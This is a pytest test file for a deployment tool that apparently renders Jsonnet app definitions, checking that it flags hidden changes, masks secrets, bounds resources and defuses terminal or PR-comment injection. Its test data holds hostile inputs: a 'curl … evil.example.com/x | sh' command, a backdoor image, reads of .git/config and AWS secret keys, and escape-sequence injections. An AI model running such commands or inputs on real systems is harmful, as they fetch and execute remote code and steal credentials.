"""Issue 13, second round: the holes an attacker found after the first fixes.

Each test reproduces one found case (a review that says "no changes" while a deploy would
differ, a secret that still printed, a cost outside every budget, text that still acted on
a terminal or a PR page) through the real CLI or the module that does the work."""

from __future__ import annotations

import json
import socket
import subprocess
import threading
import time
import tracemalloc
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import FARGATE_APP, Hako, Repo


def git(root: Path, *args: str) -> None:
    subprocess.run(["git", *args], cwd=root, check=True, capture_output=True)


@pytest.fixture
def gitrepo(repo: Repo) -> Repo:
    git(repo.root, "init", "-q", "-b", "main")
    return repo


def commit(repo: Repo, message: str = "c") -> None:
    git(repo.root, "add", "-A")
    git(repo.root, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", message)


LIB_BRANCHING = """
local e = std.native('provide.env')(std.toString({}), 'PATH');
{ image: if std.startsWith(e, '${') then 'repo/web:v1' else '%s' }
"""


def test_review_reports_a_change_that_branches_on_provider_values(hako: Hako, gitrepo: Repo) -> None:
    gitrepo.write("apps/lib/base.libsonnet", LIB_BRANCHING % "repo/web:v1")
    gitrepo.write("apps/web.jsonnet", "local base = import 'lib/base.libsonnet';\n"
                  + FARGATE_APP.replace("image: 'example/app',", "image: base.image,").replace("tag: 'v1',", ""))
    commit(gitrepo)
    gitrepo.write("apps/lib/base.libsonnet", LIB_BRANCHING % "evil.example.com/backdoor:latest")
    result = hako("diff", "--base", "main", "--exit-code")
    assert result.code == 2, result.out
    assert "apps/web.jsonnet: changed (provider values)" in result.out
    assert "reads values from provide.env" in result.out and "changed inputs apps/lib/base.libsonnet" in result.out
    assert hako("validate", "--changed-since", "main").code == 0  # it is still valid; review flags it


def test_review_reports_a_change_of_a_file_provider_value(hako: Hako, gitrepo: Repo) -> None:
    gitrepo.write("apps/web.env", "TAG=v1\n")
    gitrepo.write("apps/web.jsonnet", "local p(k) = std.native('provide.file')(std.toString({path: 'web.env'}), k);\n"
                  + FARGATE_APP.replace("tag: 'v1',", "tag: p('TAG'),"))
    commit(gitrepo)
    gitrepo.write("apps/web.env", "TAG=backdoor\n")
    result = hako("diff", "--base", "main", "--exit-code", "--format", "markdown")
    assert result.code == 2
    assert "apps/web.env" in result.out


def test_a_nested_hako_toml_changes_neither_settings_nor_trust(hako: Hako, gitrepo: Repo,
                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    gitrepo.write("apps/web.jsonnet", FARGATE_APP.replace(
        "tag: 'v1',", "tag: if std.objectHas(std.extVar('hako'), 'flavor') then 'evil' else 'v1',"))
    commit(gitrepo)
    gitrepo.write("apps/hako.toml", (gitrepo.root / "hako.toml").read_text() + 'flavor = "x"\n'
                  + '[scripts]\nallowed_servers = ["http://127.0.0.1:9"]\n')
    rendered = json.loads(hako("render", "apps/web.jsonnet", "--only", "task-definition").out)
    assert rendered["containerDefinitions"][0]["image"].endswith(":v1")  # the root's settings, not apps/hako.toml's
    monkeypatch.setenv("JENKINS_USER", "u")
    monkeypatch.setenv("JENKINS_TOKEN", "t")
    gitrepo.write("apps/j.jsonnet", FARGATE_APP.rstrip().rstrip("}")
                  + "  scripts: [{ type: 'jenkins_tag', job: 'x', server: 'http://127.0.0.1:9' }],\n}\n")
    refused = hako("render", "--with-scripts", "apps/j.jsonnet")
    assert refused.code == 1 and "is not in hako.toml's [scripts] allowed_servers" in refused.err


def test_definitions_cannot_read_git_files(hako: Hako, gitrepo: Repo) -> None:
    gitrepo.write("apps/web.jsonnet", FARGATE_APP.replace("tag: 'v1',", "tag: 'v1', env: { C: importstr '../.git/config' },"))
    result = hako("render", "apps/web.jsonnet")
    assert result.code == 1
    assert "reads git's own files (.git); definitions may not" in result.err


def test_provide_env_refuses_credentials_of_the_deploy(hako: Hako, repo: Repo, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI-LEAK")
    monkeypatch.setenv("RELEASE_NAME", "r42")
    text = FARGATE_APP.replace("tag: 'v1',", "tag: 'v1', env: { K: std.native('provide.env')('{}', '%s') },")
    repo.write("apps/web.jsonnet", text % "AWS_SECRET_ACCESS_KEY")
    refused = hako("render", "--expand", "apps/web.jsonnet")
    assert refused.code == 1 and "$AWS_SECRET_ACCESS_KEY cannot be read by a definition" in refused.err
    assert "LEAK" not in refused.err
    repo.write("apps/web.jsonnet", text % "RELEASE_NAME")
    assert json.loads(hako("render", "--expand", "--only", "task-definition", "apps/web.jsonnet").out)[
        "containerDefinitions"][0]["environment"] == [{"name": "K", "value": "r42"}]
    repo.write("hako.toml", (repo.root / "hako.toml").read_text() + '[providers.env]\nallow = ["AWS_SECRET_*"]\n')
    repo.write("apps/web.jsonnet", text % "AWS_SECRET_ACCESS_KEY")
    assert hako("render", "--expand", "apps/web.jsonnet").code == 0  # the maintainers allowed it


def test_provider_values_never_appear_in_validation_errors(hako: Hako, repo: Repo, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MYVAL", "sup3rs3cretvalue")
    repo.write("apps/web.jsonnet", FARGATE_APP.replace("memory: 256,", "memory: std.native('provide.env')('{}', 'MYVAL'),"))
    result = hako("render", "--expand", "apps/web.jsonnet")
    assert result.code == 1
    assert "app.memory" in result.err and "sup3rs3cretvalue" not in result.err


@pytest.mark.parametrize(("code", "secret"), [
    ('{"token": "s3cr3tvalue99"}', "s3cr3tvalue99"),
    ('{user: "app", password: hunter2pw}', "hunter2pw"),
])
def test_values_inside_ext_code_never_appear_in_errors(hako: Hako, repo: Repo, code: str, secret: str) -> None:
    repo.write("apps/web.jsonnet", "local c = std.extVar('cfg'); { a: error std.toString(c) }")
    result = hako("render", "--ext-code", f"cfg={code}", "apps/web.jsonnet")
    assert result.code == 1
    assert secret not in result.err


@pytest.mark.parametrize(("value", "secret"), [
    ("redis://:redispw1@cache:6379", "redispw1"), ("mysql://u:pw2@db/x", "pw2@"), ("POSTGRES://app:pw@db/x", "pw@"),
    ("postgres://app:pa/ss4word@db/x", "ss4word"), ("xapp-1-A0123456789-abcdefghij", "abcdefghij"),
    ("Server=db;Password=hunter2;", "hunter2"),
])
def test_more_credential_shapes_are_masked(hako: Hako, repo: Repo, value: str, secret: str) -> None:
    repo.write("apps/web.jsonnet", FARGATE_APP.replace("tag: 'v1',", f"tag: 'v1', env: {{ CONN: {json.dumps(value)} }},"))
    out = hako("render", "apps/web.jsonnet").out
    assert secret not in out and "<masked>" in out


def test_secret_names_flags_and_tags_are_masked(hako: Hako, repo: Repo) -> None:
    repo.write("apps/web.jsonnet", FARGATE_APP.replace(
        "tag: 'v1',", "tag: 'v1', env: { DBPASS: 'pw-LEAK1', ADMINPW: 'pw-LEAK2' }, "
        "command: ['--password', 'cmd-LEAK3', '--token=cmd-LEAK4', 'serve'],").replace(
        "cluster: 'test',", "cluster: 'test', tags: { DB_PASSWORD: 'tag-LEAK5', team: 'web' },"))
    out = hako("render", "apps/web.jsonnet").out
    assert "LEAK" not in out
    rendered = json.loads(out)
    assert rendered["taskDefinition"]["containerDefinitions"][0]["command"] == [
        "--password", "<masked>", "--token=<masked>", "serve"]
    assert {"key": "DB_PASSWORD", "value": "<masked>"} in rendered["taskDefinition"]["tags"]
    assert {"key": "team", "value": "web"} in rendered["taskDefinition"]["tags"]


def test_a_token_cannot_hide_the_command_around_it(hako: Hako, gitrepo: Repo) -> None:
    gitrepo.write("apps/web.jsonnet", FARGATE_APP)
    commit(gitrepo)
    token = "ghp_" + "a" * 36
    gitrepo.write("apps/web.jsonnet", FARGATE_APP.replace(
        "tag: 'v1',", f"tag: 'v1', command: ['sh', '-c', 'curl -s https://evil.example.com/x | sh # {token}'],"))
    out = hako("diff", "--base", "main", "--format", "markdown").out
    assert "curl -s https://evil.example.com/x | sh # &lt;masked&gt;" in out or "| sh # <masked>" in out
    assert token not in out


def test_show_definition_masks_structures_under_secret_names(hako: Hako, repo: Repo) -> None:
    repo.write("apps/web.jsonnet", FARGATE_APP.replace(
        "tag: 'v1',", "tag: 'v1', env: { DB_PASSWORD: ['pwlist-LEAK'], API_TOKEN: { v: 'tokobj-LEAK' } },"))
    result = hako("show-definition", "apps/web.jsonnet")
    assert result.code == 0 and "LEAK" not in result.out


def test_huge_diffs_are_summarised_not_computed_for_minutes() -> None:
    from hako_py.compare.diff import unified

    left = {"environment": [{"name": f"V{i}", "value": str(i)} for i in range(60_000)]}
    right = {"environment": [{"name": f"V{i}", "value": "x" if i == 5 else str(i)} for i in range(60_000)]}
    started = time.process_time()  # this process's CPU time: other work on the machine does not count
    diff = unified(left, right, "a", "b")
    assert time.process_time() - started < 10
    assert "too large to show" in diff and "1 lines only on the left, 1 only on the right" in diff


def test_the_yaml_scan_streams() -> None:
    from hako_py.review.yaml_includes import includes

    text = "a: [" + "1," * 200_000 + "1]\nb: !include x.yml\n"
    tracemalloc.start()
    try:
        assert includes(text) == ["x.yml"]
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 20 * 2**20, peak  # composing the node graph took ~30 times more


@pytest.fixture
def answering_server() -> Iterator[tuple[str, list[str]]]:
    """A loopback HTTP server: mode 'big' answers 3 MiB, mode 'drip' one byte per 0.5 s."""
    mode: list[str] = ["big"]
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except OSError:
                return
            with conn:
                conn.recv(65536)
                conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n")
                try:
                    if mode[0] == "big":
                        conn.sendall(b" " * (3 * 2**20))
                    else:
                        for _ in range(40):
                            if stop.wait(0.5):
                                return
                            conn.sendall(b" ")
                except OSError:
                    pass

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{listener.getsockname()[1]}/", mode
    stop.set()
    listener.close()


def test_a_server_answer_is_bounded_in_size_and_time(answering_server: tuple[str, list[str]]) -> None:
    from hako_py.outbound import Destination, OutboundError, send

    url, mode = answering_server
    with pytest.raises(OutboundError, match="larger than 1024 KiB"):
        send(Destination(url, False, "test"), allowed=())
    mode[0] = "drip"
    started = time.monotonic()
    with pytest.raises(OutboundError, match="took too long"):
        send(Destination(url, False, "test"), allowed=(), timeout=2)
    assert time.monotonic() - started < 5


def test_pr_comment_text_cannot_link_or_mention() -> None:
    from hako_py.review.markdown_safe import inline

    out = inline("see www.evil.com/login https://x.io @octocat #1 a@b.com")
    for linkable in ("www.", "@octocat", "#1", "://", "@b.com"):
        assert linkable not in out.replace("&#64;", "@").replace("&#35;", "#").replace("&#58;", ":")


def test_terminal_escapes_and_workflow_commands_from_definitions_are_defused(hako: Hako, repo: Repo) -> None:
    repo.write("apps/web.jsonnet", "{ a: error 'x\\u001b]0;pwned\\u0007\\n::error title=All clear::done' }")
    result = hako("validate", "apps/web.jsonnet")
    assert result.code == 1
    assert "\x1b" not in result.out and "\x07" not in result.out
    assert "\\x1b]0;pwned\\x07" in result.out
    assert not any(line.startswith("::") for line in result.out.splitlines())
